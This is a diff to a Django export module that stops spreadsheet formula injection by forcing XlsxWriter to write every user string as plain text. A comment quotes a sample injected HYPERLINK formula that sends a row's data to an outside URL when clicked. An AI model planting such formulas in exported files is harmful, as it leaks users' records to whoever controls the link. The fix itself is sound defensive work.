@@ -10,20 +10,33 @@ from django.utils.translation import gettext as _
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
+# What users type stays text in every export. XlsxWriter's write() would otherwise turn a
+# string starting with "=" into a live formula (a member whose "chức vụ" is
+# =HYPERLINK("http://…?x="&B2,"Bấm") leaks the row to whoever opens the file and clicks) and a
+# string that looks like a URL into a hyperlink. Every workbook the application writes is
+# opened through workbook() below; thidua/core/tests/test_exports_text.py checks no module
+# opens one another way.
+TEXT_ONLY = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+
+
+def workbook(target, options: dict | None = None) -> xlsxwriter.Workbook:
+    """An XlsxWriter workbook that writes every string as a string (see TEXT_ONLY)."""
+    return xlsxwriter.Workbook(target, {**(options or {}), **TEXT_ONLY})
+
 
 def xlsx_response(filename: str, headers: list[str], rows, widths: list[int] | None = None) -> FileResponse:
     # The response closes the file once streamed; a context manager would close it too early.
     handle = tempfile.TemporaryFile()  # noqa: SIM115
-    workbook = xlsxwriter.Workbook(handle, {"constant_memory": True, "tmpdir": tempfile.gettempdir()})
-    sheet = workbook.add_worksheet()
-    bold = workbook.add_format({"bold": True, "bg_color": "#DDEBF7", "border": 1})
+    book = workbook(handle, {"constant_memory": True, "tmpdir": tempfile.gettempdir()})
+    sheet = book.add_worksheet()
+    bold = book.add_format({"bold": True, "bg_color": "#DDEBF7", "border": 1})
     for col, header in enumerate(headers):
         sheet.write(0, col, header, bold)
         sheet.set_column(col, col, (widths or [])[col] if widths and col < len(widths) else 18)
     for r, row in enumerate(rows, start=1):
         for col, value in enumerate(row):
             sheet.write(r, col, value if value is not None else "")
-    workbook.close()
+    book.close()
     handle.seek(0)
     return FileResponse(handle, as_attachment=True, filename=filename, content_type=XLSX)
 
